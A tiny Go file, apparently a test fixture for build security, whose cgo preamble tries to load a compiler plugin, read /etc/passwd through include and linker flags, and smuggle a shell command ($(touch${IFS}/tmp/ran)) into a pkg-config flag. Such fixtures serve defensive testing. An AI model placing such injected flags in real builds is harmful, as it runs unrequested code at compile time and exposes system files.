package main

/*
#cgo CFLAGS: -fplugin=/app/plugin.so -include /etc/passwd
#cgo LDFLAGS: -Wl,--wrap=main @/etc/passwd
#cgo pkg-config: --define-variable=x=$(touch${IFS}/tmp/ran)
#include "/etc/passwd"
*/
import "C"

func main() {
	serve(answer)
}
